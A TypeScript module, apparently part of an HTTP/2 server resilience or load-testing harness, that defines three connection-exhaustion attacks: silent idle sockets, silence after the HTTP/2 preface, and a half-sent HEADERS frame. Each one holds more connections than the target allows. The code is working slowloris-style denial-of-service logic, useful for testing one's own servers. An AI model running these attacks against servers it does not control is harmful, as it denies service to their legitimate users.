import type { Socket } from 'node:net';
import { isOver, rest, together, type Attack, type AttackContext } from '../attack.js';
import { openPeer, openSocket } from '../peer.js';
import { frameFlag, frameHead, frameType, preface, settingsFrame } from '../wire.js';

const dialers = 64;
// More than there is room for.
const excess = 100;

/** Takes all the room there is, and takes it again when it is taken away. */
async function occupy(context: AttackContext, open: () => Promise<Socket | undefined>): Promise<void> {
  const held = new Set<Socket>();
  await together(dialers, async () => {
    while (!isOver(context)) {
      if (held.size >= context.maxConnections + excess) {
        await rest(context, 20);
        continue;
      }
      const socket = await open();
      if (socket === undefined) {
        context.count('refused');
        await rest(context, 20);
        continue;
      }
      context.count('connections');
      // Only who reads hears of the end.
      socket.resume();
      held.add(socket);
      socket.once('close', () => held.delete(socket));
    }
  });
  await context.over;
  for (const socket of held) socket.destroy();
}

/** Connects and says nothing; over TLS after the handshake. */
export const idleConnections: Attack = {
  name: 'idle-connections',
  what: 'all connections there is room for, silent',
  by: 'stranger',
  enough: { what: 'connections', count: 'room' },
  run: (context) => occupy(context, () => openSocket(context.target)),
};

/** Says the preface, and no more. */
export const idlePrefaces: Attack = {
  name: 'idle-prefaces',
  what: 'all connections there is room for, silent after the preface',
  by: 'stranger',
  enough: { what: 'connections', count: 'room' },
  run: (context) => occupy(context, async () => (await openPeer(context.target))?.socket),
};

/** Promises a frame, and sends half of it. */
export const halfFrames: Attack = {
  name: 'half-frames',
  what: 'all connections there is room for, in the middle of a frame',
  by: 'stranger',
  enough: { what: 'connections', count: 'room' },
  run: (context) =>
    occupy(context, async () => {
      const socket = await openSocket(context.target);
      const head = frameHead({ type: frameType.headers, flags: frameFlag.endHeaders, stream: 1 }, 5000);
      socket?.write(Buffer.concat([preface, settingsFrame(), head, Buffer.alloc(2000)]));
      return socket;
    }),
};
